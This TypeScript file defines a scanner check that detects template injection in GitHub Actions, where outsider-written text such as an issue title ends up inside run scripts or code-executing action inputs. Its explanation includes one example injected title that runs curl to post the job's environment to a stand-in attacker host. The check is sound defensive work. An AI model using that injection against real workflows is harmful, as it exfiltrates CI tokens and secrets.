// SPDX-License-Identifier: Apache-2.0
import { defineCheck } from '../../model/check.ts';
import { judgeSteps } from './shared/judge.ts';
import { outsideTexts, privilegedEventsOf } from './shared/outsiders.ts';
import { reparsedText } from './shared/reparsed.ts';
import { prizeOf } from './shared/tokens.ts';
import { hasTrigger, stepText } from './shared/views.ts';

/** Inputs of actions that are run as code. */
const codeInputs: ReadonlyMap<string, readonly string[]> = new Map([
  ['actions/github-script', ['script']],
  ['azure/cli', ['inlinescript']],
  ['azure/powershell', ['inlinescript']],
  ['appleboy/ssh-action', ['script']],
  ['cloudposse/actions', ['script']],
  ['nick-fields/retry', ['command', 'on_retry_command']],
  ['nick-invision/retry', ['command', 'on_retry_command']],
  ['addnab/docker-run-action', ['run', 'options']],
  ['amadevus/pwsh-script', ['script']],
  ['mikefarah/yq', ['cmd']],
  ['reactivecircus/android-emulator-runner', ['script', 'pre-emulator-launch-script']],
  ['wandalen/wretry.action', ['command']],
  ['cross-platform-actions/action', ['run']],
  ['vmactions/freebsd-vm', ['prepare', 'run']],
]);

export const githubScriptsFreeOfOutsideText = defineCheck({
  id: 'ci-github-scripts-free-of-outside-text',
  area: 'ci',
  title: 'Scripts contain no text that outsiders write',
  weakness: 'Text of outsiders becomes part of a script',
  severity: 'high',
  rows: ['A4'],
  why: 'GitHub puts the value of an expression into the script before the shell reads it. A title such as `"; curl attacker.example -d "$(env)"` is then a command, and it runs next to the tokens of the job.',
  remediation: [
    'Pass the value as a variable: `env: { TITLE: <the expression> }`, and use `"$TITLE"` in the script.',
    'In github-script read it from `context.payload` instead of an expression.',
    'Give a variable to no second interpreter: not in `eval`, not in double quotes behind `bash -c`, not to `Invoke-Expression`, and not as `%NAME%` in cmd.',
  ],
  mappings: {
    owasp: ['CICD-SEC-4'],
    mitigations: ['M1047'],
    peers: {
      zizmor: ['template-injection'],
      prowler: ['githubactions_workflow_security_scan'],
      poutine: ['injection'],
      octoscan: ['expression-injection'],
      scorecard: ['Dangerous-Workflow'],
    },
  },
  needs: [{ kind: 'ci.step', provider: 'github' }],
  *judge(inventory) {
    yield* judgeSteps(inventory, 'github', (step, view) => {
      const inputs = codeInputs.get(step.uses?.name.toLowerCase() ?? '') ?? [];
      const code = step.expressions.filter(
        ({ at: [first, second] }) =>
          first === 'run' || (first === 'with' && inputs.includes(String(second).toLowerCase())),
      );
      if (step.run === undefined && inputs.length === 0) return undefined;
      const written = code.flatMap((it) => outsideTexts(it, view, step).map((text) => ({ it, text })))[0];
      const again = written === undefined ? reparsedText(step, view) : undefined;
      if (written === undefined && again === undefined) return 'pass';
      const { pipeline } = view;
      const events = privilegedEventsOf(pipeline);
      const prize = prizeOf(view);
      const forkOnly =
        events.length === 0 && pipeline.type === 'workflow' && !hasTrigger(pipeline, 'push', 'workflow_call');
      const what =
        again === undefined ? `writes ${written?.text} into its script` : `runs the value of ${again.name} as code`;
      return {
        summary: `${stepText(step, view)} ${what}, so whoever chooses that text runs commands there${prize === undefined || forkOnly ? '' : `, next to ${prize}`}.`,
        at: written?.it.at ?? step.runAt ?? ['with', 'script'],
        note: written?.it.text ?? again?.line ?? '',
        severity: events.length > 0 && prize !== undefined ? 'critical' : forkOnly ? 'medium' : 'high',
      };
    });
  },
});
